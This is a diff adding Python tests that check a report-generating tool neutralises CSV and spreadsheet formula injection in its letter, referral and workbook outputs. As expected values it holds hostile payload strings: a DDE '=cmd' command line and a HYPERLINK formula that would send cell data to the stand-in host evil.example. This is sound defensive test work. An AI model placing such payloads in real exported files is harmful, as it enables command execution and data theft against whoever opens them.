@@ -354,3 +354,63 @@ def test_the_readme_lists_the_limits():
         f"CSV at most {untrusted.MAX_TABLE_BYTES // 1_000_000} MB", f"at most {untrusted.MAX_IMAGE_BYTES // 1_000_000} MB",
     ):
         assert value in section, value
+
+
+# ------------------------------------------------------------------------------- CSV outputs
+
+#: What a spreadsheet evaluates when a cell begins with it (OWASP "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+
+
+def assert_no_formula(path: Path) -> None:
+    for row in csv_cells(path):
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
+
+
+def test_formula_names_are_neutralised_in_the_letters_csv_files(ws: Path):
+    shutil.copy(HOSTILE / "registers/formula-names.csv", ws / "examples/formula-names.csv")
+    result = run_cli("letters", "example-borough", "-p", "examples/formula-names.csv",
+                     "--dspt", "examples/dspt-export-example.csv", "--as-of", "2026-11-26")
+    assert result.exit_code == 0, result.output
+    out = ws / "out/example-borough-letters"
+    for name in ("report.csv", "unmatched.csv"):
+        assert_no_formula(out / name)
+    names = [row[1] for row in csv_cells(out / "report.csv")[1:]]
+    assert names == ["'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+1+1"]
+    assert csv_cells(out / "unmatched.csv")[1] == ["Q9Q9Q", "'+1+1", "start letter", ""]
+
+
+def test_formula_names_are_neutralised_in_the_referrals_and_text_in_the_workbook(ws: Path):
+    import openpyxl
+
+    shutil.copy(HOSTILE / "registers/formula-names.csv", ws / "examples/formula-names.csv")
+    result = run_cli("overview", "example-borough", "-p", "examples/formula-names.csv",
+                     "--dspt", "examples/dspt-export-example.csv", "--as-of", "2026-11-26")
+    assert result.exit_code == 0, result.output
+    out = ws / "out/example-borough-overview"
+    assert_no_formula(out / "lso-referrals.csv")
+    rows = csv_cells(out / "lso-referrals.csv")
+    assert [r[7] for r in rows[1:]] == ["'=1+1", "'-2+3", "tab"]  # contact_name
+    assert [r[9] for r in rows[1:]] == ["'@SUM(1)", "'+44 Road", "'-5"]  # address
+    book = openpyxl.load_workbook(out / "overview.xlsx")
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert "=cmd|' /C calc'!A0" in [c.value for c in cells if c.data_type == "s"]
+    assert not [c for c in cells if c.data_type == "f"]
+
+
+def test_audit_scores_written_with_an_apostrophe_are_read_back_without_it(tmp_path: Path):
+    from contractgen.audit.score import latest_audit_scores
+    from contractgen.base.csvout import csv_bytes
+
+    header = ["ods_code", "provider", "overall", "critical_gaps", "version", "completed_on", "scored_on"]
+    path = tmp_path / "audit-scores.csv"
+    path.write_bytes(csv_bytes(header, [["VM1A2", "=HYPERLINK(\"x\")", 80, "", "1.0", "2026-05-01", "2026-05-02"]]))
+    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
+    assert latest_audit_scores([path])["VM1A2"].provider == "=HYPERLINK(\"x\")"
